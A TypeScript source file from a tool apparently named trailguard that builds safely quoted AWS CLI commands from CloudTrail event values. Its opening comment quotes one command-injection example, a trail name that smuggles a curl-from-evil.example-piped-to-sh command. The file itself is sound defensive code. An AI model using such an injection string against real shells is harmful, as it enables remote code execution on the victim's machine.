/**
 * The one place a suggested shell command is built. Alerts, the report and `trailguard undo` print `aws …`
 * commands for a person to paste into a shell, and the names in them come from events: any principal of an
 * account can make a denied call naming a trail `x;curl${IFS}-s${IFS}evil.example|sh;#`. So every value is
 * single-quoted here, and an event value its API would refuse gives no command at all.
 */

/** Quotes a value for a POSIX shell: always in single quotes, each `'` as `'\''`, `''` for the empty string. */
export function shellQuote(value: string): string {
  return `'${value.replaceAll("'", `'\\''`)}'`;
}

/** Text a person replaces before running the command (`<bucket>`): a constant of our code, never an event value. */
export interface Placeholder {
  readonly placeholder: string;
}

// Letters, digits, `=`, `,`, `-` around one or more `<name>`: nothing a shell expands, chains or quotes.
const PLACEHOLDER = /^[A-Za-z0-9=,-]*<[a-z][a-z0-9-]*>(?:[A-Za-z0-9=,-]*<[a-z][a-z0-9-]*>)*[A-Za-z0-9=,-]*$/;

/** A placeholder, printed unquoted (`--s3-bucket-name <bucket>`); throws for anything but `<name>`-style constants. */
export function placeholder(text: string): Placeholder {
  if (!PLACEHOLDER.test(text)) throw new Error(`not a command placeholder: ${JSON.stringify(text)}`);
  return { placeholder: text };
}

/** An event value checked against what its API accepts: `valid`, or why it gets no command. */
export type Checked = { readonly valid: string } | { readonly invalid: string };

/**
 * An event value for a command: valid when `isValid` accepts it, else the reason there is no command
 * ("the trail name in the event is not a valid trail name").
 */
export function checked(value: string | null | undefined, what: string, isValid: (value: string) => boolean): Checked {
  if (value === null || value === undefined || value === '') return { invalid: `the event names no ${what}` };
  return isValid(value) ? { valid: value } : { invalid: `the ${what} in the event is not a valid ${what}` };
}

/**
 * A flag's value: text or a checked event value (quoted), several of them (`--resources 'a' 'b'`), `true`
 * (`--flag`), `false` (`--no-flag`), a placeholder (as is), or undefined (left out).
 */
export type FlagValue = string | Checked | readonly (string | Checked)[] | boolean | Placeholder | undefined;

/** Flags in camelCase, written as kebab-case options: `{ trailName: x }` is `--trail-name 'x'`. */
export type Flags = Readonly<Record<string, FlagValue>>;

const WORD = /^[a-z0-9]+(?:-[a-z0-9]+)*$/;
const FLAG_NAME = /^[a-z][A-Za-z0-9]*$/;

const isPlaceholder = (value: FlagValue): value is Placeholder => typeof value === 'object' && value !== null && 'placeholder' in value;
const isChecked = (value: unknown): value is Checked => typeof value === 'object' && value !== null && ('valid' in value || 'invalid' in value);

/** Why flags hold a value that gets no command (the first refused one), or undefined when every value is valid. */
export function refusedIn(...flagSets: readonly Flags[]): string | undefined {
  for (const flags of flagSets) {
    for (const value of Object.values(flags)) {
      const values = Array.isArray(value) ? value : [value];
      const refused = values.find((v): v is { readonly invalid: string } => isChecked(v) && 'invalid' in v);
      if (refused) return refused.invalid;
    }
  }
  return undefined;
}

function quoted(value: string | Checked): string {
  if (typeof value === 'string') return shellQuote(value);
  if ('valid' in value) return shellQuote(value.valid);
  throw new Error(`refused value in a command: ${value.invalid}`);
}

function option(name: string, value: FlagValue): string[] {
  if (!FLAG_NAME.test(name)) throw new Error(`not a command flag: ${JSON.stringify(name)}`);
  const flag = name.replace(/[A-Z]/g, (c) => `-${c.toLowerCase()}`);
  if (value === undefined) return [];
  if (value === true) return [`--${flag}`];
  if (value === false) return [`--no-${flag}`];
  if (isPlaceholder(value)) return [`--${flag}`, value.placeholder];
  const values: readonly (string | Checked)[] = Array.isArray(value) ? value : [value as string | Checked];
  return [`--${flag}`, ...values.map(quoted)];
}

/**
 * `aws <service> <operation> --flag 'value' …`, every value single-quoted; `no command: <why>` instead when
 * an event value in it was refused (see `checked`). Service and operation are constants of our code.
 */
export function awsCommand(service: string, operation: string, flags: Flags = {}): string {
  if (!WORD.test(service) || !WORD.test(operation)) throw new Error(`not an aws command: ${JSON.stringify(`${service} ${operation}`)}`);
  const refused = refusedIn(flags);
  if (refused) return noCommand(refused);
  return ['aws', service, operation, ...Object.entries(flags).flatMap(([name, value]) => option(name, value))].join(' ');
}

/** The words shown where a command would be when a value was refused. */
export function noCommand(why: string): string {
  return `no command: ${why}`;
}
